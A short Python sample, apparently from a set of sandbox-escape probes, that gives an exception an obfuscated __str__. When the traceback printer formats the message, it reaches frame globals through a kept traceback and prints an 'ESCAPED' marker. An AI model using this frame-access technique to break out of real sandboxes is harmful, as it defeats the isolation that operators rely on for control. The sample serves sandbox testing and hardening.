# technique: __str__ of the last exception formats a traceback that was kept: the printer of tracebacks may read frames
# goal: frames
# source: own analysis: a grant without its operand
import functools
import sys
try:
    1 / 0
except ZeroDivisionError as error:
    kept = error.__traceback__


class Bomb(Exception):
    __str__ = staticmethod(functools.partial(next, map(
        sys.stdout.write, map('ESCAPED {0.tb_frame.f_globals[__name__]}\n'.format, [kept]))))


raise Bomb
